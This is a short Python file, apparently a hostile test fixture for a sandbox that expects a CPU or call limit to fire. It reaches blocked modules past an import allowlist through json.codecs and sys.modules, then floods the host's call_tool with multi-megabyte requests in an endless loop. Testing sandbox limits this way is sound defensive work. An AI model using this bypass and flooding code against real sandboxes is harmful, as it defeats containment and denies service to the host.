# hostile: send eight megabytes to the host, again and again
# want: cpu-limit or call-limit
# line: 23-24


def reach(name):
    """The module of that name, past the allowlist: a loaded one, else through the interpreter's own import."""
    import json
    codecs = json.codecs
    modules = codecs.sys.modules
    if modules.get(name) is None:
        try:
            codecs.builtins.__import__(name)
        except ImportError:
            modules["_frozen_importlib"]._gcd_import(name)
    print("reached", name)
    return modules[name]


def run(ctx):
    host = reach("_host")
    request = b'{"connector":"a","tool":"b","arguments":{"x":"' + b'x' * (7 << 20) + b'"}}'
    while True:
        host.call_tool(request)
